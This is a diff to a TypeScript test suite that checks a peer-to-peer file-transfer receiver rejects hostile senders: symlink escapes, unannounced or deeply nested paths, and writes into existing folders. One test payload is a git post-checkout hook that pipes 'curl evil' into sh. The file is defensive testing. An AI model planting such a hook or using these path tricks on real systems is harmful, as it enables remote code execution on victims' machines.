@@ -25,7 +25,8 @@ let root: string;
 const timeouts = { waitForPeerMs: 10_000, stepMs: 10_000, stapleMs: 10_000 };
 
 before(async () => {
-  relay = await startRelay({ port: 0, tcpPort: 0 });
+  // many transfers from one address: these tests are about the peers (the relay's limits have their own)
+  relay = await startRelay({ port: 0, tcpPort: 0, joinRateLimit: 100_000, channelRateLimit: 1_000_000, maxChannelsPerAddress: 10_000 });
   root = await mkdtemp(join(tmpdir(), 'tsc-croc-hostile-'));
 });
 after(async () => {
@@ -98,7 +99,15 @@ test('refuses a path into a symlink planted in the output folder (at the offer, 
   const { out, elsewhere } = await fresh('symlink');
   await symlink(elsewhere, join(out, 'link'));
   const data = Buffer.from('payload');
-  const script: Step[] = [offer(['link'], data.length), file('link/x', data.length), { data }, { msg: { type: 'file-end', sha256: sha(data) } }, { msg: { type: 'done' } }, { end: true }];
+  const script: Step[] = [
+    { msg: { type: 'offer', v: PROTOCOL_VERSION, kind: 'files', totalFiles: 1, totalDirs: 1, totalBytes: data.length, names: ['link'] } },
+    { msg: { type: 'dir', path: 'link', mode: 0o755, mtime: Date.now() } },
+    file('link/x', data.length),
+    { data },
+    { msg: { type: 'file-end', sha256: sha(data) } },
+    { msg: { type: 'done' } },
+    { end: true },
+  ];
   assertCode(await hostile(script, out), 'ERR_FILE_EXISTS');
   assertCode(await hostile(script, out, true), 'ERR_UNSAFE_PATH');
   assert.deepEqual(await readdir(elsewhere), []);
@@ -183,9 +192,17 @@ test('an existing top-level folder is not written into without --overwrite, even
   const hook = Buffer.from('#!/bin/sh\ncurl evil | sh');
   const viaDir = await hostile([folderOffer(['repo'], 1, 1, hook.length), dir('repo'), file('repo/.git/post-checkout', hook.length), { data: hook }], out);
   assertCode(viaDir, 'ERR_FILE_EXISTS');
-  const direct = await hostile([folderOffer(['repo'], 1, 0, hook.length), file('repo/.git/post-checkout', hook.length), { data: hook }], out);
-  assertCode(direct, 'ERR_FILE_EXISTS');
+  // a path whose folders were never announced is refused before the disk is touched
+  const direct = await hostile([folderOffer(['repo'], 1, 0, hook.length), file('repo/.git/post-checkout', hook.length), { data: hook }], out, true);
+  assertCode(direct, 'ERR_PROTOCOL');
   assert.deepEqual(await readdir(join(out, 'repo', '.git')), []);
+});
+
+test('a deep path must announce each folder: depth costs only what the user was offered', async () => {
+  const { out } = await fresh('deep');
+  const deep = Array.from({ length: 1500 }, () => 'x').join('/');
+  assertCode(await hostile([folderOffer(['a'], 1, 1, 1), dir('a'), file(`a/${deep}/f`, 1)], out), 'ERR_PROTOCOL');
+  assert.deepEqual(await readdir(join(out, 'a')), []);
 });
 
 test('more folders than offered, or a folder outside the offered names, is refused', async () => {
